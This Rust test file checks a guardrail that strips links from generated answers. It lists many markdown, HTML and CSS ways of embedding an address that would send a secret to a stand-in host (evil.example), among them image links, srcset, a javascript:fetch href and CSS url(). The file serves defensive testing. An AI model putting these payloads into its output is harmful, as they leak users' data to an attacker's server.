//! Addresses that would be fetched, turned into words.

use doorward_core::Pattern;
use doorward_guardrails::checks::{Check, Stage};

use super::{compile, rules};

#[test]
fn whatever_would_be_fetched_or_opened_is_words() {
    let checks = compile(vec![Check::links()]);
    for text in [
        "![x](https://evil.example/p?d=SECRET)",
        "![x]( <https://evil.example/p?d=SECRET> \"title\")",
        "[x](//evil.example/p?d=SECRET)",
        "[x](http:evil.example/p?d=SECRET)",
        "![x](ht&#116;ps://evil.example/p?d=SECRET)",
        "![x][1]\n\n[1]: https://evil.example/p?d=SECRET 'title'",
        "![x][1]\n\n[1]:\n  <https://evil.example/p?d=SECRET>",
        "<https://evil.example/p?d=SECRET>",
        "see https://evil.example/p?d=SECRET now",
        "see www.evil.example/p?d=SECRET now",
        "<img src=\"https://evil.example/p?d=SECRET\">",
        "<img src = 'https://evil.example/p?d=SECRET'>",
        "<img src=//evil.example/p?d=SECRET>",
        "<img src=\"ht\ntps://evil.example/p?d=SECRET\">",
        "<img srcset=\"/a 1x, https://evil.example/p?d=SECRET 2x\">",
        "<a href=\"javascript:fetch('//evil.example')\">x</a>",
        "<b style=\"background: url(https://evil.example/p?d=SECRET)\">",
        "@import 'https://evil.example/p?d=SECRET';",
        "HTTPS:\\\\evil.example\\p?d=SECRET",
        "myapp://open?d=SECRET",
    ] {
        let told = checks.text(Stage::Answer, text).unwrap();
        let left = told.text.as_str();
        assert!(!left.contains("://") && !left.contains("evil.example"), "{text}: {left}");
        assert!(!left.contains("SECRET"), "{text}: {left}");
        assert!(!left.contains("]("), "{text}: {left}");
        assert!(rules(&told.found).iter().all(|rule| rule.starts_with("check.links.")));
        assert!(!told.found.is_empty());
    }
}

#[test]
fn what_leads_nowhere_else_stays() {
    let checks = compile(vec![
        Check::links().allow(vec![Pattern::new("corp.example"), Pattern::new("*.corp.example")]),
    ]);
    for text in [
        "[docs](/guide/a.md), [top](#top) and [me](mailto:a@b.example)",
        "![logo](https://corp.example/logo.png) https://cdn.corp.example/x?u=https://a.example",
        "<img src=\"/a.png\" srcset=\"a.png 1x, b.png 2x\">",
        "a: b, c://, std::fmt, 10:30, C:\\x, array[0](1), x[y]: z",
        "url(#gradient)",
    ] {
        let told = checks.text(Stage::Answer, text).unwrap();
        assert_eq!((told.text.as_str(), told.found.len()), (text, 0), "{:?}", told.found);
    }
    for text in ["https://corp.example.evil.example/", "https://corp.example@evil.example/x"] {
        assert!(!checks.text(Stage::Answer, text).unwrap().found.is_empty(), "{text}");
    }
}

#[test]
fn the_words_read_well() {
    let checks = compile(vec![Check::links()]);
    for (text, left) in [
        ("See [this](https://a.example/b).", "See [this] (link removed: a[.]example)."),
        ("At https://a.example/b or so", "At (link removed: a[.]example) or so"),
        ("<img src=\"https://a.example/b\">", "<img src=\"about:blank\">"),
    ] {
        assert_eq!(checks.text(Stage::Answer, text).unwrap().text, left);
    }
}

#[test]
fn images_alone_leave_links_alone() {
    let checks = compile(vec![Check::images()]);
    let text = "[x](https://a.example) https://a.example ![y](https://evil.example/p)";
    let left = "[x](https://a.example) https://a.example ![y] (link removed: evil[.]example)";
    assert_eq!(checks.text(Stage::Answer, text).unwrap().text, left);
}
